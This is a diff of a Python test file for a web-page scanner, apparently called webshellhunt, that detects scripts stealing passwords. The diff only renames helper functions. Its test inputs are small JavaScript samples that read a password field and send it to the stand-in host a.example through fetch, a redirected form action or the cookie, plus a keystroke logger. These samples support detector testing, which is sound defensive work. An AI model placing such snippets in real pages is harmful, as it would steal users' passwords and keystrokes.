@@ -8,8 +8,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from webshellhunt.client_scripts.browsed import Browsed, Script, browse
 from webshellhunt.client_scripts.channels import Channel, Destination
+from webshellhunt.client_scripts.script_analysis import Script, ScriptAnalysis, analyse_scripts
 from webshellhunt.decoding.charset import DecodedText
 from webshellhunt.pages.includes.resolver import Resolution
 from webshellhunt.pages.page import Dependency, DependencyKind
@@ -22,12 +22,12 @@ def nothing(_address: str, _start: int, _end: int) -> Script | None:
     return None
 
 
-def browsed(script: str) -> Browsed:
-    return browse(f"{FIELD}<script>{script}</script>", nothing, is_script=False)
+def analysed(script: str) -> ScriptAnalysis:
+    return analyse_scripts(f"{FIELD}<script>{script}</script>", nothing, is_script=False)
 
 
-def roads(script: str) -> list[tuple[Channel, Destination]]:
-    return [(exfiltration.channel, exfiltration.address.destination) for exfiltration in browsed(script).exfiltrations]
+def channels(script: str) -> list[tuple[Channel, Destination]]:
+    return [(exfiltration.channel, exfiltration.address.destination) for exfiltration in analysed(script).exfiltrations]
 
 
 @pytest.mark.parametrize(
@@ -48,7 +48,7 @@ def roads(script: str) -> list[tuple[Channel, Destination]]:
     ],
 )
 def test_a_password_is_known_however_it_is_taken(value: str) -> None:
-    assert roads(f'fetch("//a.example", {value});') == [(Channel.REQUEST, Destination.FOREIGN)]
+    assert channels(f'fetch("//a.example", {value});') == [(Channel.REQUEST, Destination.FOREIGN)]
 
 
 @pytest.mark.parametrize(
@@ -67,7 +67,7 @@ def test_a_password_is_known_however_it_is_taken(value: str) -> None:
     ],
 )
 def test_what_says_nothing_of_the_password_is_let_out(value: str) -> None:
-    assert roads(f'fetch("//a.example", {value});') == []
+    assert channels(f'fetch("//a.example", {value});') == []
 
 
 @pytest.mark.parametrize(
@@ -92,42 +92,44 @@ def test_what_says_nothing_of_the_password_is_let_out(value: str) -> None:
     ],
 )
 def test_each_way_out_is_seen(sink: str, channel: Channel, destination: Destination) -> None:
-    assert (channel, destination) in roads(TAKEN + sink)
+    assert (channel, destination) in channels(TAKEN + sink)
 
 
 def test_a_name_means_another_variable_in_another_function() -> None:
     script = 'function a() { var e = document.forms[0].pw.value; } function b(e) { fetch("//a.example", e); }'
-    assert roads(script) == []
+    assert channels(script) == []
 
 
 def test_lines_without_semicolons_are_statements() -> None:
-    assert roads('var a = "x"\nvar p = document.forms[0].pw.value\nfetch("//a.example", a)') == []
+    assert channels('var a = "x"\nvar p = document.forms[0].pw.value\nfetch("//a.example", a)') == []
 
 
 def test_keys_are_followed_from_their_handler() -> None:
     script = (
         'document.onkeypress = log; function log(e) { fetch("/k?" + e.which); } function other(e) { fetch(e.which); }'
     )
-    (exfiltration,) = browsed(script).exfiltrations
+    (exfiltration,) = analysed(script).exfiltrations
     assert exfiltration.logs_keys
 
 
 def test_a_form_is_sent_elsewhere() -> None:
-    assert roads('document.forms[0].action = "https://a.example/";') == [(Channel.FORM, Destination.FOREIGN)]
-    found = browse('<form action="//a.example/"><input type=password></form>', nothing, is_script=False)
+    assert channels('document.forms[0].action = "https://a.example/";') == [(Channel.FORM, Destination.FOREIGN)]
+    found = analyse_scripts('<form action="//a.example/"><input type=password></form>', nothing, is_script=False)
     assert [address.shown for _, address in found.foreign_forms] == ["a.example"]
 
 
 def test_a_page_without_a_password_field_is_left_alone() -> None:
-    assert browse(f"<script>{TAKEN}document.cookie = p;</script>", nothing, is_script=False).exfiltrations == []
+    assert (
+        analyse_scripts(f"<script>{TAKEN}document.cookie = p;</script>", nothing, is_script=False).exfiltrations == []
+    )
 
 
 def test_a_script_by_itself_knows_usual_names() -> None:
     text = 'var p = gbid("passwordText").value; document.cookie = p;'
-    (exfiltration,) = browse(text, nothing, is_script=True).exfiltrations
-    script, start, end = browse(text, nothing, is_script=True).place(exfiltration.token)
+    (exfiltration,) = analyse_scripts(text, nothing, is_script=True).exfiltrations
+    script, start, end = analyse_scripts(text, nothing, is_script=True).place(exfiltration.token)
     assert (script, text[start:end]) == (None, "cookie")
-    assert browse(text.replace("passwordText", "hint"), nothing, is_script=True).exfiltrations == []
+    assert analyse_scripts(text.replace("passwordText", "hint"), nothing, is_script=True).exfiltrations == []
 
 
 def test_a_loaded_script_is_joined_and_leads_back() -> None:
@@ -140,7 +142,7 @@ def test_a_loaded_script_is_joined_and_leads_back() -> None:
         return pulled, DecodedText("ascii", "ascii", code, code.encode())
 
     page = f'{FIELD}<script src="a.js"></script><script>keep(document.forms[0].pw.value);</script>'
-    found = browse(page, read, is_script=False)
+    found = analyse_scripts(page, read, is_script=False)
     (exfiltration,) = found.exfiltrations
     assert asked == ["a.js"]
     script, start, end = found.place(exfiltration.token)
@@ -175,7 +177,7 @@ PIECES = [
 
 @given(st.lists(st.sampled_from(PIECES)).map(" ".join))
 def test_any_script_is_read(script: str) -> None:
-    found = browsed(script)
+    found = analysed(script)
     for exfiltration in found.exfiltrations:
         assert found.place(exfiltration.token)[2] > found.place(exfiltration.token)[1]
 
@@ -186,5 +188,5 @@ def test_any_script_is_read(script: str) -> None:
 )
 def test_hostile_scripts_are_bounded(piece: str) -> None:
     started = time.process_time()
-    browsed(TAKEN + piece * (150_000 // len(piece)))
+    analysed(TAKEN + piece * (150_000 // len(piece)))
     assert time.process_time() - started < 10
